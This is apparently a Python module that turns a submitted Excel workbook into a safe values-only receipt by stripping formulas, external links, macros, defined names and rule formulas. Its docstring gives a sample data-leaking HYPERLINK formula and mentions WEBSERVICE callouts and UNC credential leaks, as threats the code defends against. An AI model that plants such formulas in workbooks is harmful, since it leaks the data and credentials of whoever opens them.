"""A copy of a clerk's workbook that is safe to hand back: values, never live content.

A receipt is the clerk's own workbook with the problem cells marked, downloaded by stewards too. What the
clerk (or an attacker) put in it must not run when it is opened: a formula such as
``=HYPERLINK("http://…?leak="&B5)`` sends cell values away, an external link to a UNC share leaks the
opener's credentials, macros and data connections run code or queries. The copy keeps every cell's
cached value (what Excel showed), the formula as text in the cell's comment, formats and merged cells;
it drops formulas, external links and external hyperlinks, defined names, macros and connections, and
conditional formats and data validations (their rules are formulas too: ``WEBSERVICE(…)`` in a rule
calls out when Excel evaluates it).
"""

from __future__ import annotations

import io
from pathlib import Path

from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment

from etl.excel_safe import set_cell

FORMULA_NOTE = "原公式（回执中已改为数值）："


def values_only_copy(path: Path) -> Workbook:
    """``path``: an .xlsx/.xlsm (opened as a file: openpyxl judges a path by its suffix, and a pinned path,
    etl.shared_paths.PinnedPath, has none)."""
    with path.open("rb") as handle:
        data = handle.read()
    workbook = load_workbook(io.BytesIO(data), keep_vba=False, keep_links=False, rich_text=False)
    cached = load_workbook(io.BytesIO(data), data_only=True, read_only=True, keep_links=False)
    try:
        for sheet in workbook.worksheets:
            values = None
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.hyperlink is not None and (cell.hyperlink.target or cell.hyperlink.id):
                        cell.hyperlink = None  # a link out of the workbook; links to its own cells stay
                    if cell.data_type != "f":
                        continue
                    if values is None:
                        values = _cached_values(cached, sheet.title)
                    formula = getattr(cell.value, "text", None) or str(cell.value)
                    set_cell(cell, values.get((cell.row, cell.column)))
                    cell.comment = Comment(f"{FORMULA_NOTE}{formula}"[:2000], "数据管理员", width=320, height=60)
            _clear_names(sheet)
            _clear_rules(sheet)
    finally:
        cached.close()
    _clear_names(workbook)
    return workbook


def _cached_values(cached, title: str) -> dict[tuple[int, int], object]:
    """Every cell's cached value (what Excel last computed) of one sheet, by (row, column)."""
    if title not in cached.sheetnames:
        return {}
    values = {}
    for row in cached[title].iter_rows():
        for cell in row:
            if getattr(cell, "value", None) is not None:
                values[(cell.row, cell.column)] = cell.value
    return values


def _clear_rules(sheet) -> None:
    """A sheet's conditional formats and data validations, whose rules are formulas: gone."""
    from openpyxl.formatting.formatting import ConditionalFormattingList
    from openpyxl.worksheet.datavalidation import DataValidationList

    sheet.conditional_formatting = ConditionalFormattingList()
    sheet.data_validations = DataValidationList()


def _clear_names(owner) -> None:
    """Defined names can hold formulas and references to other workbooks; a receipt needs none."""
    names = getattr(owner, "defined_names", None)
    if names is not None and hasattr(names, "clear"):
        names.clear()
